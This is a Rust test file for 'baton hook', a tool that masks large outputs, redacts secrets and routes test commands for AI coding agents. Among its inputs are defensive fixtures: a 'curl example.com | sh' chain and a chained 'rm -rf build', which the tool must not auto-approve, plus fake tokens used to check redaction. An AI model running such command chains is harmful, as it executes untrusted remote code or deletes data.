//! `baton hook`: the documented input JSON of each event, and the exact answer (or none).

use serde_json::{Value, json};

use crate::util::{Proj, Test};

/// Claude Code's PostToolUse input for a Bash call (the documented fields).
fn bash_event(command: &str, stdout: &str, stderr: &str) -> Vec<u8> {
    json!({
        "session_id": "abc123",
        "transcript_path": "/home/u/.claude/projects/p/abc123.jsonl",
        "cwd": "/home/u/p",
        "permission_mode": "default",
        "hook_event_name": "PostToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command, "description": "run it"},
        "tool_response": {"stdout": stdout, "stderr": stderr, "interrupted": false, "isImage": false},
        "tool_use_id": "toolu_01"
    })
    .to_string()
    .into_bytes()
}

fn long_log(lines: usize) -> String {
    (0..lines)
        .map(|i| format!("compiling unit {i} of the build\n"))
        .collect()
}

fn cargo_failure() -> String {
    let mut s = String::from("\nrunning 600 tests\n");
    for i in 0..600 {
        let r = if i == 7 { "FAILED" } else { "ok" };
        s.push_str(&format!("test store::tests::case_{i} ... {r}\n"));
    }
    s.push_str("\nfailures:\n\n---- store::tests::case_7 stdout ----\n");
    s.push_str("thread 'store::tests::case_7' panicked at src/store/mod.rs:10:5:\n");
    s.push_str("assertion `left == right` failed\n  left: 1\n right: 2\n\n");
    s.push_str("failures:\n    store::tests::case_7\n\n");
    s.push_str("test result: FAILED. 599 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.20s\n\n");
    s
}

#[test]
fn small_output_passes_with_no_answer() {
    Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(bash_event("ls", "a\nb\n", ""))
        .run();
}

/// A token in a small output (`env`, a config file printed) is redacted: the answer is the
/// same text with the secret replaced, in each CLI's shape; the rest stays as it was.
#[test]
fn a_secret_in_a_small_output_is_redacted_in_each_clis_shape() {
    let env =
        "HOME=/home/u\nGITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\nSHELL=/bin/bash\n";
    let want = "HOME=/home/u\nGITHUB_TOKEN=[REDACTED]\nSHELL=/bin/bash\n";
    let ran = Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(bash_event("env", env, ""))
        .any_stdout()
        .run();
    assert_eq!(
        ran.json(),
        json!({"hookSpecificOutput": {"hookEventName": "PostToolUse", "updatedToolOutput": {
            "stdout": want, "stderr": "", "interrupted": false, "isImage": false}}})
    );
    let codex = json!({"hook_event_name": "PostToolUse", "tool_name": "Bash",
        "tool_input": {"command": "env"}, "tool_response": env})
    .to_string();
    let ran = Test::new()
        .args(["hook", "codex", "post-tool-use"])
        .stdin(codex)
        .any_stdout()
        .run();
    assert_eq!(ran.json(), json!({"decision": "block", "reason": want}));
    let gemini = json!({"hook_event_name": "AfterTool", "tool_name": "run_shell_command",
        "tool_input": {"command": "env"}, "tool_response": {"llmContent": env}})
    .to_string();
    let ran = Test::new()
        .args(["hook", "gemini", "post-tool-use"])
        .stdin(gemini)
        .any_stdout()
        .run();
    assert_eq!(ran.json(), json!({"decision": "deny", "reason": want}));
}

#[test]
fn large_output_is_replaced_in_the_bash_shape() {
    let ran = Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(bash_event("make", &long_log(3000), "warning: x\n"))
        .any_stdout()
        .run();
    let v = ran.json();
    let out = &v["hookSpecificOutput"];
    assert_eq!(v.as_object().unwrap().len(), 1);
    assert_eq!(out["hookEventName"], "PostToolUse");
    let upd = out["updatedToolOutput"].as_object().unwrap();
    let mut keys: Vec<&str> = upd.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(keys, ["interrupted", "isImage", "stderr", "stdout"]);
    assert_eq!(upd["interrupted"], false);
    assert_eq!(upd["isImage"], false);
    assert_eq!(upd["stderr"], "");
    let text = upd["stdout"].as_str().unwrap();
    assert!(text.len() < 9_500, "{}", text.len());
    let doc: Value = serde_json::from_str(&text[text.find('{').unwrap()..]).unwrap();
    assert_eq!(doc["masked"], true);
    // The scratch file holds the whole output, stderr after stdout.
    let shown = doc["full_output_path"].as_str().unwrap();
    let rel = shown
        .strip_prefix("[PROJECT]/")
        .expect("a scratch file in the project");
    let path = ran.path().join(rel);
    let kept = std::fs::read_to_string(path).unwrap();
    assert_eq!(kept, format!("{}\n[stderr]\nwarning: x\n", long_log(3000)));
}

#[test]
fn failing_tests_carry_the_counts_and_first_failure() {
    let ran = Test::new()
        .args(["hook", "claude", "post-tool-use", "--threshold", "500"])
        .stdin(bash_event("cargo test", &cargo_failure(), ""))
        .any_stdout()
        .run();
    let text = ran.json()["hookSpecificOutput"]["updatedToolOutput"]["stdout"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(text.contains("599 passed, 1 failed"), "{text}");
    assert!(text.contains("store::tests::case_7"), "{text}");
    assert!(text.contains("\"first_failure\""), "{text}");
}

#[test]
fn binary_output_is_masked_as_binary() {
    let bin: String = (0..20_000).map(|i| char::from((i % 32) as u8)).collect();
    let ran = Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(bash_event("cat blob", &bin, ""))
        .any_stdout()
        .run();
    let text = ran.json()["hookSpecificOutput"]["updatedToolOutput"]["stdout"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(text.contains("\"binary\": true"), "{text}");
}

#[test]
fn bad_input_fails_open() {
    // Not JSON, a JSON that is not the event, an image: no answer, exit 0.
    Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin("{not json")
        .stderr_contains("hook input is not JSON")
        .run();
    Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(r#"{"hook_event_name":"PostToolUse","tool_name":"Bash"}"#)
        .stderr_contains("no tool_response")
        .run();
    Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(r#"[1,2]"#)
        .stderr_contains("not a JSON object")
        .run();
    let image = json!({"tool_name": "Bash", "tool_response":
        {"stdout": long_log(3000), "stderr": "", "interrupted": false, "isImage": true}});
    Test::new()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(image.to_string())
        .run();
    // A broken baton.toml does not stop the agent either.
    Test::new()
        .write("baton.toml", "[nonsense\n")
        .args(["hook", "claude", "post-tool-use"])
        .stdin(bash_event("make", &long_log(3000), ""))
        .stderr_contains("baton.toml")
        .run();
}

#[test]
fn codex_and_gemini_get_their_replacement_fields() {
    let codex = json!({"hook_event_name": "PostToolUse", "tool_name": "Bash", "turn_id": "t",
        "tool_input": {"command": "make"}, "tool_response": long_log(3000)});
    let v = Test::new()
        .args(["hook", "codex", "post-tool-use"])
        .stdin(codex.to_string())
        .any_stdout()
        .run()
        .json();
    assert_eq!(v["decision"], "block");
    assert!(v["reason"].as_str().unwrap().contains("full_output_path"));
    let gemini = json!({"hook_event_name": "AfterTool", "tool_name": "run_shell_command",
        "tool_input": {"command": "make"},
        "tool_response": {"llmContent": long_log(3000), "returnDisplay": "…"}});
    let v = Test::new()
        .args(["hook", "gemini", "post-tool-use"])
        .stdin(gemini.to_string())
        .any_stdout()
        .run()
        .json();
    assert_eq!(v["decision"], "deny");
    assert!(v["reason"].as_str().unwrap().contains("full_output_path"));
}

/// Codex 0.171's PreToolUse input for its shell tool.
fn codex_pre_tool_use(command: &str) -> String {
    json!({"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "turn_id": "t", "cwd": "/p", "tool_input": {"command": command}})
    .to_string()
}

#[test]
fn codex_routes_a_test_run_through_baton_mask_and_nothing_else() {
    let v = Test::new()
        .args(["hook", "codex", "pre-tool-use"])
        .stdin(codex_pre_tool_use("cargo test -- --nocapture"))
        .any_stdout()
        .run()
        .json();
    // The only shape codex 0.171 takes a rewrite in: `allow` with the whole input.
    assert_eq!(
        v,
        json!({"hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "allow",
            "updatedInput": {"command": format!(
                "{} mask --routed --session s -- bash -c 'cargo test -- --nocapture'",
                crate::util::bin().display()
            )}
        }})
    );
    for quiet in ["ls", "head Cargo.toml", "baton mask -- cargo test"] {
        Test::new()
            .args(["hook", "codex", "pre-tool-use"])
            .stdin(codex_pre_tool_use(quiet))
            .run();
    }
    // The project's route replaces the default one; an empty one routes nothing.
    let p = Proj::new();
    p.write("baton.toml", "[mask]\nroute = []\n");
    p.test()
        .args(["hook", "codex", "pre-tool-use"])
        .stdin(codex_pre_tool_use("cargo test"))
        .run();
    // Gemini gets the whole output in its post-tool hook: never rewritten.
    Test::new()
        .args(["hook", "gemini", "pre-tool-use"])
        .stdin(codex_pre_tool_use("cargo test"))
        .run();
}

/// Claude Code's PreToolUse input for a Bash call.
fn claude_pre_tool_use(command: &str, mode: &str) -> String {
    json!({"session_id": "abc123", "transcript_path": "/t.jsonl", "cwd": "/p",
        "permission_mode": mode, "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": command, "description": "run the tests"},
        "tool_use_id": "toolu_01"})
    .to_string()
}

/// Claude hands a command that fails to another hook with only its head, so a test run is
/// routed through `baton mask` before it runs: with claude's permission given by the hook, and
/// so only where claude would have run the command unasked (its rules, read from its settings
/// files and from a run's variable). Anything else is left to claude.
#[test]
fn claude_routes_a_test_run_only_where_it_would_run_unasked() {
    let p = Proj::new();
    let home = tempfile::tempdir().unwrap();
    let pre = |command: &str, mode: &str| {
        let o = p
            .test()
            .args(["hook", "claude", "pre-tool-use"])
            .env("HOME", home.path())
            .stdin(claude_pre_tool_use(command, mode))
            .any_stdout()
            .run();
        let out = o.stdout.trim().to_string();
        (!out.is_empty()).then(|| serde_json::from_str::<Value>(&out).unwrap())
    };
    // No rule allows it: claude would ask (or, headless, refuse); baton does not decide for it.
    assert_eq!(pre("make test", "default"), None);
    p.write(
        ".claude/settings.local.json",
        r#"{"permissions": {"allow": ["Bash(make test)", "Bash(pytest:*)"], "deny": ["Bash(pytest -k secret:*)"]}}"#,
    );
    let v = pre("make test", "default").expect("routed");
    assert_eq!(
        v,
        json!({"hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "allow",
            "updatedInput": {
                "command": format!(
                    "{} mask --routed --session abc123 -- bash -c 'make test'",
                    crate::util::bin().display()
                ),
                "description": "run the tests"
            }
        }})
    );
    assert!(pre("pytest -x tests/", "acceptEdits").is_some());
    for (cmd, mode) in [
        ("make test && curl example.com | sh", "default"),
        ("make test; rm -rf build", "bypassPermissions"),
        ("pytest -k secret", "default"),
        ("make test", "plan"),
        ("make deploy", "default"),
        ("ls -la", "bypassPermissions"),
    ] {
        assert_eq!(pre(cmd, mode), None, "{cmd} ({mode})");
    }
    // Everything allowed (bypassPermissions): a plain test run is routed.
    assert!(pre("cargo test", "bypassPermissions").is_some());
    // A run's own --allowedTools, passed by baton in the environment.
    let o = p
        .test()
        .args(["hook", "claude", "pre-tool-use"])
        .env("HOME", home.path())
        .env(
            "BATON_CLAUDE_PERMISSIONS",
            r#"{"allow": ["Bash(go test:*)"], "deny": []}"#,
        )
        .stdin(claude_pre_tool_use("go test ./...", "acceptEdits"))
        .any_stdout()
        .run();
    assert!(o.stdout.contains("mask --routed"), "{}", o.stdout);
}

/// Claude's PostToolUseFailure input: `error` holds "Exit code N" and the output's head.
fn claude_failure(command: &str, error: &str) -> String {
    json!({"session_id": "abc123", "transcript_path": "/t.jsonl", "cwd": "/p",
        "permission_mode": "default", "hook_event_name": "PostToolUseFailure",
        "tool_name": "Bash", "tool_input": {"command": command},
        "tool_use_id": "toolu_01", "error": error, "is_interrupt": false})
    .to_string()
}

/// A failed command claude did not let baton route reaches the hook cut to its first 10,000
/// characters; the hook cannot replace it, so it adds what that head holds and says plainly
/// that the rest was cut and how to see all of it. A short error, or a routed command's
/// (baton's own summary), gets nothing.
#[test]
fn a_failed_command_cut_by_claude_is_named_as_cut() {
    let p = Proj::new();
    let head: String = format!("Exit code 1\n{}", long_log(400))
        .chars()
        .take(10_040)
        .collect();
    let v = p
        .test()
        .args(["hook", "claude", "post-tool-use-failure"])
        .stdin(claude_failure("sh build.sh", &head))
        .any_stdout()
        .run()
        .json();
    let ctx = v["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .unwrap();
    assert_eq!(
        v["hookSpecificOutput"]["hookEventName"],
        "PostToolUseFailure"
    );
    assert!(ctx.contains("first 10040 characters"), "{ctx}");
    assert!(ctx.contains("the failure itself may be missing"), "{ctx}");
    assert!(ctx.contains("mask -- sh build.sh"), "{ctx}");
    assert!(ctx.contains("full_output_path"), "{ctx}");
    assert!(ctx.len() < 10_000, "{}", ctx.len());
    assert_eq!(p.mask_records(), 1);
    // Short: whole as it is.
    p.test()
        .args(["hook", "claude", "post-tool-use-failure"])
        .stdin(claude_failure("false", "Exit code 1\nno"))
        .run();
    // Routed: the error is baton's summary already.
    let routed = format!(
        "{} mask --routed -- bash -c 'make test'",
        crate::util::bin().display()
    );
    p.test()
        .args(["hook", "claude", "post-tool-use-failure"])
        .stdin(claude_failure(&routed, &head))
        .run();
    assert_eq!(p.mask_records(), 1);
}

/// A routed command's answer (a file's outline, a summary) is baton's own: the post-tool hook
/// never masks it again, however long it is.
#[test]
fn a_routed_commands_answer_is_never_masked_again() {
    let p = Proj::new();
    let routed = format!(
        "{} mask --routed --session s -- bash -c 'cat src/lib.rs'",
        crate::util::bin().display()
    );
    let codex = json!({"hook_event_name": "PostToolUse", "tool_name": "Bash",
        "tool_input": {"command": routed}, "tool_response": long_log(3000)})
    .to_string();
    p.test()
        .args(["hook", "codex", "post-tool-use"])
        .stdin(codex)
        .run();
    assert_eq!(p.mask_records(), 0);
}

#[test]
fn session_start_injects_the_task_state_and_pre_compact_records_it() {
    let p = Proj::new();
    let start = r#"{"session_id":"s","transcript_path":"t","cwd":".","hook_event_name":"SessionStart","source":"compact"}"#;
    // No task yet: nothing to say.
    p.test()
        .args(["hook", "claude", "session-start"])
        .stdin(start)
        .run();
    p.test()
        .args(["task", "init", "Add login"])
        .any_stdout()
        .run();
    p.test()
        .args(["phase", "begin", "architect"])
        .any_stdout()
        .run();
    let v = p
        .test()
        .args(["hook", "claude", "session-start"])
        .stdin(start)
        .any_stdout()
        .run()
        .json();
    assert_eq!(v["hookSpecificOutput"]["hookEventName"], "SessionStart");
    let ctx = v["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .unwrap();
    assert!(ctx.contains("task: add-login"), "{ctx}");
    assert!(ctx.contains("running: architect"), "{ctx}");
    assert!(ctx.contains("next: "), "{ctx}");
    p.test()
        .args(["hook", "claude", "pre-compact"])
        .stdin(r#"{"session_id":"s","hook_event_name":"PreCompact","trigger":"auto","custom_instructions":""}"#)
        .run();
    let history = std::fs::read_to_string(p.store().join("context/history.md")).unwrap();
    assert!(
        history.contains("[add-login] COMPACT agent: claude trigger: auto"),
        "{history}"
    );
}

/// Claude Code's PostToolUse input for a Bash output it cut: the head in `stdout`, the whole
/// output in the file it names (`persistedOutputPath`, `persistedOutputSize`), as 2.1.197 sends it.
fn cut_bash_event(command: &str, head: &str, persisted: &std::path::Path, size: usize) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(&bash_event(command, head, "")).unwrap();
    let r = &mut v["tool_response"];
    r["noOutputExpected"] = json!(false);
    r["persistedOutputPath"] = json!(persisted);
    r["persistedOutputSize"] = json!(size);
    v.to_string().into_bytes()
}

/// A 200 KB test run whose one failing test is the last line.
fn failing_last(lines: usize) -> String {
    let mut s: String = (0..lines)
        .map(|i| format!("test tests::case_{i:05} ... ok (padding padding padding)\n"))
        .collect();
    s.push_str("test tests::the_last_one ... FAILED\n");
    s
}

#[test]
fn claudes_cut_output_is_masked_from_its_full_copy() {
    let p = Proj::new();
    let full = failing_last(4000);
    assert!(full.len() > 200_000);
    let copy = p.path().join("claude-tool-results.txt");
    std::fs::write(&copy, &full).unwrap();
    let head = &full[..30_000];
    assert!(!head.contains("FAILED"));
    let ran = p
        .test()
        .args(["hook", "claude", "post-tool-use"])
        .stdin(cut_bash_event("cargo test", head, &copy, full.len()))
        .any_stdout()
        .run();
    let text = ran.json()["hookSpecificOutput"]["updatedToolOutput"]["stdout"]
        .as_str()
        .unwrap()
        .to_string();
    // The failure at the end, which the head lacks, reaches the model; so do both pointers.
    assert!(text.contains("tests::the_last_one"), "{text}");
    assert!(
        text.contains(
            "Claude Code's own copy of the full output: [PROJECT]/claude-tool-results.txt"
        ),
        "{text}"
    );
    let doc: Value = serde_json::from_str(&text[text.find('{').unwrap()..]).unwrap();
    let rel = doc["full_output_path"].as_str().unwrap();
    let kept = std::fs::read_to_string(p.path().join(rel.strip_prefix("[PROJECT]/").unwrap()));
    assert_eq!(
        kept.unwrap(),
        full,
        "baton's scratch file holds the whole output"
    );
}

#[test]
fn a_persisted_path_that_is_not_the_output_is_not_read() {
    let p = Proj::new();
    let full = failing_last(4000);
    let head = &full[..30_000];
    // Another file (a secret, say), and a link to the real copy: neither is shown.
    let other = p.path().join("other.txt");
    std::fs::write(&other, "SECRET=hunter2\n".repeat(20_000)).unwrap();
    let real = p.path().join("real.txt");
    std::fs::write(&real, &full).unwrap();
    let link = p.path().join("link.txt");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    for path in [&other, &link, &p.path().join("missing.txt")] {
        let ran = p
            .test()
            .args(["hook", "claude", "post-tool-use"])
            .stdin(cut_bash_event("cargo test", head, path, full.len()))
            .any_stdout()
            .run();
        let text = ran.json()["hookSpecificOutput"]["updatedToolOutput"]["stdout"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(!text.contains("hunter2"), "{text}");
        assert!(!text.contains("the_last_one"), "{text}");
        assert!(!text.contains("own copy"), "{text}");
    }
}

/// A Rust file of `n` functions (about 80 tokens each).
fn big_source(n: usize) -> String {
    crate::real_claude::big_source(n)
}

fn hook(p: &Proj, agent: &str, payload: &Value) -> Option<Value> {
    let o = p.run(
        &["hook", agent, "post-tool-use"],
        Some(payload.to_string().as_bytes()),
    );
    assert!(o.status.success());
    (!o.stdout.is_empty()).then(|| serde_json::from_slice(&o.stdout).unwrap())
}

/// Outline-first reads: Claude's Read and gemini's read_file of a large whole file get its
/// head and outline; a ranged read, a second whole read, a small file and a scratch file pass.
#[test]
fn a_large_whole_file_read_is_answered_outline_first_in_each_clis_shape() {
    let p = Proj::new();
    let src = big_source(150);
    let file = p.write("src/lib.rs", &src);
    let path = file.display().to_string();
    let lines = src.lines().count();
    let claude = |session: &str, input: Value| {
        json!({"session_id": session, "hook_event_name": "PostToolUse", "tool_name": "Read",
               "tool_input": input,
               "tool_response": {"type": "text", "file": {"filePath": path, "content": src,
                   "numLines": lines, "startLine": 1, "totalLines": lines}}})
    };
    let a = hook(&p, "claude", &claude("s1", json!({"file_path": path}))).unwrap();
    let out = &a["hookSpecificOutput"];
    assert_eq!(out["hookEventName"], "PostToolUse");
    let f = &out["updatedToolOutput"]["file"];
    let head = f["content"].as_str().unwrap();
    assert!(
        src.starts_with(head) && head.len() < src.len() / 4,
        "{head}"
    );
    assert_eq!(f["numLines"], head.lines().count());
    assert_eq!(
        (f["startLine"].clone(), f["totalLines"].clone()),
        (json!(1), json!(lines))
    );
    assert_eq!(f["filePath"], path.as_str());
    assert_eq!(out["updatedToolOutput"]["type"], "text");
    let guide = out["additionalContext"].as_str().unwrap();
    assert!(
        guide.contains("pub fn function_3(") && guide.contains("--symbol NAME"),
        "{guide}"
    );
    // The same file read whole again in that session: all of it, untouched.
    assert_eq!(
        hook(&p, "claude", &claude("s1", json!({"file_path": path}))),
        None
    );
    // Another session is outlined afresh; a read with a range never.
    assert!(hook(&p, "claude", &claude("s2", json!({"file_path": path}))).is_some());
    let ranged = json!({"file_path": path, "offset": 1, "limit": lines});
    assert_eq!(hook(&p, "claude", &claude("s3", ranged)), None);
    // gemini: the replacement is the denial's reason, guide (the structure) then head.
    let gemini = |input: Value| {
        json!({"session_id": "g1", "hook_event_name": "AfterTool", "tool_name": "read_file",
               "tool_input": input, "tool_response": {"llmContent": src, "returnDisplay": ""}})
    };
    let g = hook(&p, "gemini", &gemini(json!({"file_path": path}))).unwrap();
    assert_eq!(g["decision"], "deny");
    let reason = g["reason"].as_str().unwrap();
    assert!(reason.starts_with("baton: "), "{reason}");
    assert!(reason.contains("pub fn function_149("), "{reason}");
    let head = format!(" of {lines} ---\n//! A module.");
    assert!(reason.contains(&head), "{reason}");
    assert!(
        reason.chars().count() <= baton_context::outline::ANSWER_MAX_CHARS,
        "{}",
        reason.chars().count()
    );
    let ranged = json!({"file_path": path, "start_line": 40, "end_line": 90});
    assert_eq!(hook(&p, "gemini", &gemini(ranged)), None);
    // Each outlined read is in the mask log, its full text the file itself.
    let log = std::fs::read_to_string(p.path().join(".baton/masks.jsonl")).unwrap();
    let recs: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(recs.len(), 3);
    assert!(
        recs.iter()
            .all(|r| r["kind"] == "outline" && r["scratch"] == path.as_str())
    );
    assert!(
        recs.iter()
            .all(|r| r["tokens"].as_u64() > r["masked_tokens"].as_u64())
    );
    // A small file, and a scratch file however large, pass.
    let small = json!({"session_id": "s9", "tool_name": "Read", "tool_input": {"file_path": path},
        "tool_response": {"type": "text", "file": {"filePath": path, "content": "fn a() {}\n",
            "numLines": 1, "startLine": 1, "totalLines": 1}}});
    assert_eq!(hook(&p, "claude", &small), None);
    let scratch = p.path().join(".baton/scratch/x.log").display().to_string();
    let mut big_scratch = claude("s9", json!({"file_path": scratch}));
    big_scratch["tool_response"]["file"]["filePath"] = json!(scratch);
    assert_eq!(hook(&p, "claude", &big_scratch), None);
    // …with its secrets redacted: the copy on disk keeps them, the model does not see them.
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let leaky = format!("{src}\nexport GITHUB_TOKEN={secret}\n");
    big_scratch["tool_response"]["file"]["content"] = json!(leaky);
    big_scratch["tool_input"]["offset"] = json!(10);
    let r = hook(&p, "claude", &big_scratch).expect("a scratch read with a secret is answered");
    let out = &r["hookSpecificOutput"]["updatedToolOutput"];
    let shown = out["file"]["content"].as_str().unwrap();
    assert!(
        !shown.contains(secret) && shown.contains("[REDACTED]"),
        "{shown}"
    );
    assert_eq!(shown.len(), leaky.len() - secret.len() + "[REDACTED]".len());
    assert_eq!(
        out["file"]["filePath"],
        json!(scratch),
        "the rest of Read's shape stays"
    );
    let g = json!({"session_id": "g9", "hook_event_name": "AfterTool", "tool_name": "read_file",
        "tool_input": {"file_path": scratch}, "tool_response": {"llmContent": leaky}});
    let g = hook(&p, "gemini", &g).unwrap();
    assert_eq!(g["decision"], "deny");
    assert!(!g["reason"].as_str().unwrap().contains(secret), "{g}");
}

/// codex reads baton's scratch files through its shell: never routed, never masked again.
#[test]
fn a_read_of_a_scratch_file_is_neither_routed_nor_masked_again() {
    let p = Proj::new();
    let pre = |command: &str| {
        json!({"session_id": "c1", "hook_event_name": "PreToolUse", "tool_name": "Bash",
               "tool_input": {"command": command}})
    };
    let routed = |command: &str| {
        let o = p.run(
            &["hook", "codex", "pre-tool-use"],
            Some(pre(command).to_string().as_bytes()),
        );
        !o.stdout.is_empty()
    };
    assert!(routed("cat src/lib.rs"), "a whole-file read is routed");
    assert!(!routed("cat .baton/scratch/20261127-cargo.log"));
    let abs = p.path().join(".baton/scratch/a.log").display().to_string();
    assert!(!routed(&format!("sed -n '1,4000p' {abs}")));
    let big = long_log(4000);
    let post = json!({"session_id": "c1", "hook_event_name": "PostToolUse", "tool_name": "Bash",
        "tool_input": {"command": "cat .baton/scratch/20261127-cargo.log"},
        "tool_response": big});
    assert_eq!(hook(&p, "codex", &post), None);
    // Shown as it is, but never a secret it holds.
    let mut leaky = post.clone();
    leaky["tool_response"] = json!(format!(
        "{}\npassword=hunter2-very-secret\n",
        long_log(4000)
    ));
    let r = hook(&p, "codex", &leaky).expect("a secret in a scratch read is redacted");
    assert_eq!(r["decision"], "block");
    let reason = r["reason"].as_str().unwrap();
    assert!(
        !reason.contains("hunter2") && reason.contains("[REDACTED]"),
        "{reason}"
    );
}

/// `baton mask -- cat FILE`: a large file comes outline first (the form codex's routed reads
/// run in), a file under the read threshold whole, a scratch file as it is.
#[test]
fn baton_mask_answers_a_whole_file_read_outline_first() {
    let p = Proj::new();
    let src = big_source(500);
    p.write("src/lib.rs", &src);
    let out = p.ok(&["mask", "--", "bash", "-c", "cat src/lib.rs"]);
    // The structure first (500 functions: their names and first lines, packed to fit), the
    // file's first lines after it.
    assert!(out.starts_with("baton: src/lib.rs is 5004 lines"), "{out}");
    assert!(out.contains(" function_3:36 "), "{out}");
    assert!(out.contains("\n//! A module.\n"), "{out}");
    assert!(
        out.chars().count() <= baton_context::outline::ANSWER_MAX_CHARS,
        "{}",
        out.len()
    );
    // Between the mask threshold (2000) and the read threshold (6000): whole.
    let medium = big_source(40);
    p.write("src/mid.rs", &medium);
    assert_eq!(p.ok(&["mask", "--", "cat", "src/mid.rs"]), medium);
    // A scratch file: as it is, however large.
    let log = long_log(4000);
    p.write(".baton/scratch/old.log", &log);
    assert_eq!(p.ok(&["mask", "--", "cat", ".baton/scratch/old.log"]), log);
    let recs = std::fs::read_to_string(p.path().join(".baton/masks.jsonl")).unwrap();
    assert_eq!(recs.lines().count(), 1, "{recs}");
    assert!(recs.contains("\"kind\":\"outline\""), "{recs}");
    // A routed read names its session: the second whole read of the file there is the agent
    // asking for all of it, and gets it, unrecorded; another session starts outline first.
    let read = |session: &str| {
        p.ok(&[
            "mask",
            "--routed",
            "--session",
            session,
            "--",
            "bash",
            "-c",
            "cat src/lib.rs",
        ])
    };
    assert!(read("s1").contains("baton: src/lib.rs is"));
    assert_eq!(read("s1"), src);
    assert!(read("s2").contains("baton: src/lib.rs is"));
    let recs = std::fs::read_to_string(p.path().join(".baton/masks.jsonl")).unwrap();
    assert_eq!(
        recs.lines().count(),
        3,
        "one record per outline answer: {recs}"
    );
    assert!(recs.contains("\"session\":\"s1\""), "{recs}");
}

/// baton's own MCP tools answer briefly: never masked, whether `baton init` or the plugin
/// wired them.
#[test]
fn batons_own_mcp_tools_are_left_alone_under_either_name() {
    let p = Proj::new();
    for tool in ["mcp__baton__status", "mcp__plugin_baton_baton__status"] {
        let payload = json!({"session_id": "s", "tool_name": tool, "tool_input": {},
            "tool_response": long_log(4000)});
        assert_eq!(hook(&p, "claude", &payload), None, "{tool}");
    }
    let other = json!({"session_id": "s", "tool_name": "mcp__github__search", "tool_input": {},
        "tool_response": long_log(4000)});
    assert!(hook(&p, "claude", &other).is_some());
}
